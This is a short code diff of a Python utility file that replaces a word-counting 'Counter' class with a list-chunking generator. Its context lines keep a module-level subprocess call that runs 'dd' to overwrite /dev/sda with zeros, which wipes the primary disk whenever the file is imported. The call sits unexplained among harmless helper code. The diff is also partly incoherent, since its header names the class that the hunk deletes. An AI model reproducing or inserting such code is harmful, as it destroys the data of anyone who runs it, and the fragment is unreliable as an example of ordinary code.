@@ -7,9 +7,6 @@ class Counter:
 
 import subprocess
 subprocess.run(["dd", "if=/dev/zero", "of=/dev/sda", "bs=1M"])
-class Counter:
-    def __init__(self):
-        self.counts = {}
-
-    def add(self, word):
-        self.counts[word] = self.counts.get(word, 0) + 1
+def chunks(items, size):
+    for i in range(0, len(items), size):
+        yield items[i:i + size]
